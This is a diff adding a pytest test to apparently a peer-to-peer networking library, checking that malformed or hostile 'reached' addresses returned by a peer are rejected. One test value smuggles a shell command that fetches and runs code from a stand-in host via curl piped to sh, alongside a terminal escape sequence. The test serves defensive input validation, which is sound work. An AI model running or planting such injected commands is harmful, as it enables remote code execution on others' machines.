@@ -206,6 +206,23 @@ def test_a_malformed_question_harms_nobody(nodes):
     nodes(scenario)
 
 
+@pytest.mark.parametrize("reached", ["/ip4/1.2.3.4/tcp/1; curl http://evil/x | sh", "\x1b[2J", "/ip4/1.2.3.4/tcp/1\n", "x" * 5000, 7])
+def test_what_a_stranger_calls_an_address_does_not_reach_the_owner(nodes, monkeypatch, reached):
+    """It stood in a command that the owner was told to run."""
+
+    async def scenario(start):
+        one = await start("one")
+        two = await start("two", initial_peers=await one.maddrs())
+
+        async def lie(*_):
+            return json.dumps({"reached": reached}).encode()
+
+        monkeypatch.setattr(two.p2p._client, "call_unary_handler", lie)
+        assert await reachability._ask(two.p2p, one.p2p.peer_id, ["/ip4/198.18.0.1/tcp/1"]) == (None, False)
+
+    nodes(scenario)
+
+
 def test_another_peer_at_the_address_is_not_taken_for_the_one_who_asks(nodes):
     async def scenario(start):
         one = await start("one")
